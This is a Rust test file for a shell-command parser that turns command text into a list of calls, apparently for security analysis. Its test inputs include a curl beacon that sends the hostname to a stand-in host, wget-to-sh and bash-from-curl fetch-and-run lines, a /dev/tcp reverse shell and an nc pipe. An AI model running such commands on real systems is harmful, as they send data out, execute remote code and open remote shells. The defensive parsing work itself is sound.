use super::*;

/// Each call as `program(word, ...)`, nested ones first.
fn calls(text: &str) -> Vec<String> {
    let program = lift(text, Trigger::Load, &mut Budget::default());
    let show = |id: &ValueId| show(&program, *id);
    program
        .ops
        .iter()
        .filter_map(|op| match &op.kind {
            OpKind::Call { callee, arguments, keywords, .. } => {
                let mut words: Vec<String> = arguments.iter().map(show).collect();
                words
                    .extend(keywords.iter().map(|(name, value)| format!("{name}={}", show(value))));
                Some(format!("{}({})", show(callee), words.join(", ")))
            }
            _ => None,
        })
        .collect()
}

fn show(program: &Program, id: ValueId) -> String {
    match program.op(id).map(|op| &op.kind) {
        Some(OpKind::Constant(Constant::Text(text))) => text.clone(),
        Some(OpKind::Load { name }) => name.clone(),
        Some(OpKind::Collect { items, .. }) => {
            items.iter().map(|item| show(program, *item)).collect::<Vec<_>>().join("+")
        }
        Some(OpKind::Call { callee, .. }) => format!("<{}>", show(program, *callee)),
        other => format!("{other:?}"),
    }
}

#[test]
fn words_quotes_and_substitutions() {
    assert_eq!(
        calls(r#"curl "http://hub.example/beacon" -d "host=$(hostname)""#),
        ["hostname()", "curl(http://hub.example/beacon, -d, host=+<hostname>)"]
    );
    assert_eq!(calls(r"echo 'a b'\ c$HOME"), ["echo(a b c+$HOME)"]);
    assert_eq!(calls("echo `id -u`"), ["id(-u)", "echo(<id>)"]);
    assert_eq!(calls(r"printf $'\x69\x64'"), ["printf(id)"]);
}

#[test]
fn lists_pipes_and_nested_shells() {
    assert_eq!(
        calls("wget -qO- https://x.example/i.sh | sh"),
        ["wget(-qO-, https://x.example/i.sh)", "sh(stdin=<wget>)"]
    );
    assert_eq!(calls("A=1 id && ls; (pwd || true) & #x"), ["id()", "ls()", "pwd()", "true()"]);
    assert_eq!(calls("bash -c 'id | nc h.example 1'").first().map(String::as_str), Some("id()"));
    assert_eq!(calls("sudo -n sh -c 'id'").first().map(String::as_str), Some("id()"));
    assert_eq!(calls("if true; then id; fi"), ["true()", "id()"]);
}

#[test]
fn redirections() {
    assert_eq!(
        calls("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        ["/dev/tcp(192.0.2.1, 4444)", "bash(-i, >=/dev/tcp/192.0.2.1/4444, >=1)"]
    );
    let fetched = ["curl(https://x.example/i.sh)", "bash(stdin=<curl>)"];
    assert_eq!(calls("bash <(curl https://x.example/i.sh)"), fetched);
    assert_eq!(calls("bash < <(curl https://x.example/i.sh)"), fetched);
    assert_eq!(calls("bash <(curl https://x.example/i.sh"), fetched);
    assert_eq!(calls("tee >(gzip); id"), ["tee()", "gzip()", "id()"]);
    assert_eq!(calls("python3 <<EOF\nimport os\nEOF\nid"), ["python3(stdin=import os\n)", "id()"]);
}

#[test]
fn hostile_nesting_ends() {
    let deep = format!("{}id{}", "echo $(".repeat(5000), ")".repeat(5000));
    assert!(calls(&deep).len() < 100);
    calls("echo \"$(");
    calls("'");
    calls("cat <<EOF");
    calls("$(((((");
}
